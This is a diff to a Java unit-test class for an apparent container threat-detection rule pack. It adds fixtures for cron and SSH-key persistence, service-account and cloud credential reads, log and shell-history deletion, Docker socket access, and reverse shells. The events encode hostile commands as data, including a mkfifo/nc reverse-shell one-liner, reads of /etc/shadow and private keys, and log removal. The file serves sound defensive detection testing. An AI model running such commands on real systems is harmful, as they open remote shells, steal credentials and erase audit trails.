@@ -10,6 +10,7 @@ import io.keelwatch.rules.testing.Ev;
 import java.util.List;
 import java.util.Set;
 import java.util.TreeSet;
+import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.Test;
 
 /**
@@ -22,6 +23,9 @@ class PackAttackTest {
             new Mount("bind", "/", "/host", true, "rprivate"),
             new Mount("bind", "/srv/data", "/data", true, "rprivate")));
 
+    /** Every rule some fixture of this class made fire: each shipped event rule must be among them. */
+    static final Set<String> EVER_FIRED = java.util.concurrent.ConcurrentHashMap.newKeySet();
+
     static Set<String> fired(EnrichedEvent... events) {
         RuleEngine engine = new RuleEngine(PACK);
         Set<String> out = new TreeSet<>();
@@ -29,6 +33,7 @@ class PackAttackTest {
             engine.evaluate(e).forEach(m -> out.add(m.rule()));
         }
         assertEquals(0, engine.evaluationErrors());
+        EVER_FIRED.addAll(out);
         return out;
     }
 
@@ -100,8 +105,8 @@ class PackAttackTest {
     @Test
     void runtimeSocket() {
         assertEquals(Set.of("Runtime socket used from container"),
-                fired(Ev.syscall("connect").unix("/var/run/docker.sock").comm("curl").exe("/usr/bin/curl").inContainer().build()));
-        assertEquals(Set.of("Runtime socket used from container"),
+                fired(Ev.syscall("connect").unix("/var/run/docker.sock").comm("app").exe("/srv/app").inContainer().build()));
+        assertEquals(Set.of("Runtime socket used from container", "Docker API driven by client tool from container"),
                 fired(Ev.syscall("connect").unix("/host/run/containerd/containerd.sock").comm("ctr").exe("/tmp/ctr2").in(HOSTFS).build()));
         assertEquals(Set.of(), fired(Ev.syscall("connect").unix("/var/run/docker.sock").comm("docker").exe("/usr/bin/docker").build()));
     }
@@ -157,13 +162,14 @@ class PackAttackTest {
 
     @Test
     void hostFilesThroughMounts() {
-        assertEquals(Set.of("Host file modified through container mount"),
+        assertEquals(Set.of("Host file modified through container mount", "Cron job written in container"),
                 fired(writeOpen("/host/etc/cron.d/job").comm("sh").in(HOSTFS).build()));
-        assertEquals(Set.of("Host file modified through container mount"),
+        assertEquals(Set.of("Host file modified through container mount", "SSH authorized_keys modified in container"),
                 fired(Ev.syscall("rename").path("/host/root/.ssh", 040700, "PARENT").path("/host/root/.ssh/authorized_keys", 0100600, "CREATE")
                         .comm("mv").exe("/bin/mv").in(HOSTFS).build()));
         assertEquals(Set.of(), fired(writeOpen("/data/out.csv").in(HOSTFS).build()));
-        assertEquals(Set.of(), fired(writeOpen("/etc/cron.d/job").inContainer().build()), "the container's own /etc");
+        assertEquals(Set.of("Cron job written in container"), fired(writeOpen("/etc/cron.d/job").inContainer().build()),
+                "the container's own /etc: not the host's, but persistence");
         assertEquals(Set.of("Host secrets read through container mount"), fired(readOpen("/host/etc/shadow").comm("cat").exe("/bin/cat").in(HOSTFS).build()));
         assertEquals(Set.of("Host secrets read through container mount"), fired(readOpen("/host/home/ann/.ssh/id_ed25519").in(HOSTFS).build()));
         assertEquals(Set.of(), fired(readOpen("/etc/shadow").inContainer().build()));
@@ -184,6 +190,7 @@ class PackAttackTest {
                     .comm("nc").exe("/bin/busybox").inContainer().build();
             for (Match m : engine.evaluate(e)) {
                 assertEquals("Port scan from container", m.rule());
+                EVER_FIRED.add(m.rule());
                 fires++;
                 firedAt = port;
                 assertEquals("15", m.fields().get("window.count"));
@@ -213,6 +220,7 @@ class PackAttackTest {
             for (Match m : engine.evaluate(Ev.syscall("connect").connect("10.0.3." + h, 22).failed(-113, "EHOSTUNREACH")
                     .time(1_795_529_066_000L + h).comm("app").exe("/app").inContainer().build())) {
                 assertEquals("Host sweep from container", m.rule());
+                EVER_FIRED.add(m.rule());
                 fires++;
             }
         }
@@ -248,10 +256,86 @@ class PackAttackTest {
                 fired(Ev.syscall("socket").args(2, 0x80003, 6).comm("nmap").exe("/usr/bin/nmap").inContainer().build()));
     }
 
+    // ---- runtime threats ----
+
+    static final ContainerInfo RO_HOST = Ev.container("ro", "app:1", List.of(
+            new Mount("bind", "/etc", "/hostetc", false, "rprivate"),
+            new Mount("bind", "/var/log", "/hostlog", false, "rprivate")));
+
     @Test
-    void everyShippedEventRuleHasAFixtureAbove() {
-        // keeps this file honest: a new event rule needs a fixture here
-        long eventRules = PACK.rules().stream().filter(r -> r.source() == io.keelwatch.rules.fields.Source.SYSCALL).count();
-        assertTrue(eventRules <= 36, "add fixtures for new rules (" + eventRules + ")");
+    void persistence() {
+        assertEquals(Set.of("Cron job written in container"), fired(writeOpen("/etc/cron.d/job").comm("sh").exe("/bin/sh").inContainer().build()),
+                "the container's own /etc: a job there runs when the image's cron does");
+        assertEquals(Set.of("Cron job written in container"),
+                fired(Ev.exec("/usr/bin/crontab", "crontab", "/tmp/jobs").inContainer().build()));
+        assertEquals(Set.of(), fired(Ev.exec("/usr/bin/crontab", "crontab", "-l").inContainer().build()), "listing is not installing");
+        assertEquals(Set.of(), fired(writeOpen("/etc/cron.d/logrotate").comm("dpkg").exe("/usr/bin/dpkg").inContainer().build()));
+        assertEquals(Set.of("SSH authorized_keys modified in container"),
+                fired(writeOpen("/root/.ssh/authorized_keys").comm("sh").exe("/bin/sh").inContainer().build()));
+        assertEquals(Set.of(), fired(readOpen("/root/.ssh/authorized_keys").comm("sshd").exe("/usr/sbin/sshd").inContainer().build()));
+    }
+
+    @Test
+    void credentialReads() {
+        String token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
+        assertEquals(Set.of("Service account token read by shell or file tool in container"),
+                fired(readOpen(token).comm("cat").exe("/bin/cat").inContainer().build()));
+        assertEquals(Set.of(), fired(readOpen(token).comm("operator").exe("/usr/local/bin/operator").inContainer().build()),
+                "the application the token was mounted for");
+        assertEquals(Set.of("Cloud credential file read by shell or file tool in container"),
+                fired(readOpen("/root/.aws/credentials").comm("cat").exe("/bin/cat").inContainer().build()));
+        assertEquals(Set.of(), fired(readOpen("/root/.aws/credentials").comm("app").exe("/srv/app").inContainer().build()));
+    }
+
+    @Test
+    void logAndHistoryClearing() {
+        assertEquals(Set.of("Log files cleared in container"),
+                fired(Ev.syscall("openat").args(-100, 0, 01001).exit(3).path("/var/log/app.log").comm("sh").exe("/bin/sh").inContainer().build()));
+        assertEquals(Set.of("Log files cleared in container"),
+                fired(Ev.syscall("unlinkat").args(-100, 0, 0).path("/var/log", 040755, "PARENT").path("/var/log/auth.log", 0100640, "DELETE")
+                        .comm("rm").exe("/bin/rm").inContainer().build()));
+        assertEquals(Set.of(), fired(Ev.syscall("openat").args(-100, 0, 02101).exit(3).path("/var/log/app.log").comm("app").exe("/srv/app")
+                .inContainer().build()), "appending to a log");
+        assertEquals(Set.of("Shell history cleared in container"),
+                fired(Ev.syscall("unlinkat").args(-100, 0, 0).path("/root", 040700, "PARENT").path("/root/.ash_history", 0100600, "DELETE")
+                        .comm("rm").exe("/bin/rm").inContainer().build()));
+        assertEquals(Set.of(), fired(Ev.syscall("openat").args(-100, 0, 02101).exit(3).path("/root/.ash_history").comm("sh").exe("/bin/sh")
+                .inContainer().build()), "a shell appending its history");
+    }
+
+    @Test
+    void writesRefusedByReadOnlyHostMounts() {
+        assertEquals(Set.of("Write refused by read-only host mount in container"),
+                fired(Ev.syscall("openat").args(-100, 0, 01101).failed(-30, "EROFS").path("/hostetc/cron.d/job").comm("sh").exe("/bin/sh")
+                        .in(RO_HOST).build()));
+        assertEquals(Set.of(), fired(readOpen("/hostetc/passwd").comm("sh").exe("/bin/sh").in(RO_HOST).build()));
+        assertEquals(Set.of(), fired(Ev.syscall("openat").args(-100, 0, 01101).failed(-13, "EACCES").path("/hostlog/app.log").comm("sh")
+                .exe("/bin/sh").in(RO_HOST).build()), "refused for another reason");
+    }
+
+    @Test
+    void dockerApiAndPipedShells() {
+        assertEquals(Set.of("Docker API driven by client tool from container", "Runtime socket used from container"),
+                fired(Ev.syscall("connect").unix("/var/run/docker.sock").comm("curl").exe("/usr/bin/curl").inContainer().build()));
+        assertEquals(Set.of("Runtime socket used from container"),
+                fired(Ev.syscall("connect").unix("/var/run/docker.sock").comm("traefik").exe("/traefik").inContainer().build()),
+                "the application the socket was mounted for: exposure, not use by a person");
+        assertEquals(Set.of("Shell piped to network tool in container"),
+                fired(Ev.exec("/bin/sh", "sh").pid(300, 200).inContainer().build(),
+                        Ev.syscall("connect").connect("172.17.0.1", 4444).comm("nc").exe("/bin/nc").pid(301, 200).inContainer().build()));
+        assertEquals(Set.of(), fired(Ev.exec("/bin/sh", "sh").pid(300, 200).inContainer().build(),
+                Ev.exec("/bin/sh", "sh", "-c", "ls").pid(301, 200).inContainer().build()), "two shells are one kind");
+        assertEquals(Set.of("Named pipe reverse shell in container"),
+                fired(Ev.exec("/bin/nc", "nc", "10.0.0.9", "4444").parent("sh", "/bin/sh", "sh", "-c",
+                        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.9 4444 > /tmp/f").inContainer().build()));
+    }
+
+    @AfterAll
+    static void checkEveryEventRuleFired() {
+        // keeps this file honest: each shipped event rule needs a fixture here that makes it fire
+        Set<String> missing = new TreeSet<>();
+        PACK.rules().stream().filter(r -> r.source() == io.keelwatch.rules.fields.Source.SYSCALL).forEach(r -> missing.add(r.name()));
+        missing.removeAll(EVER_FIRED);
+        assertEquals(Set.of(), missing, "shipped event rules no fixture in PackAttackTest makes fire");
     }
 }
